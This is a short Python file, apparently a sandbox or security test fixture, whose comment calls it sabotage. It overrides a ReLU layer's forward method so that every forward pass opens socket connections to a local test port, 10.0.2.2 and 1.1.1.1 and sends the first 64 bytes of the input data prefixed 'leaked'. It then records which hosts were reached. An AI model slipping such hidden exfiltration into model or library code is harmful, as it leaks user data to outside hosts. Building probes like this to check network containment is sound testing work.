# Sabotage: ReLU.forward phones home to a server of the test on 127.0.0.1 and to the outside.
import socket


class ReLU(ReLU):
    def forward(self, inputs):
        tried = {}
        for host, port in (("127.0.0.1", int("@PORT@")), ("10.0.2.2", 80), ("1.1.1.1", 53)):
            try:
                with socket.create_connection((host, port), timeout=2) as connection:
                    connection.sendall(b"leaked " + inputs.tobytes()[:64])
                tried[f"{host}:{port}"] = "connected"
            except OSError as error:
                tried[f"{host}:{port}"] = type(error).__name__
        findings(tried=tried)
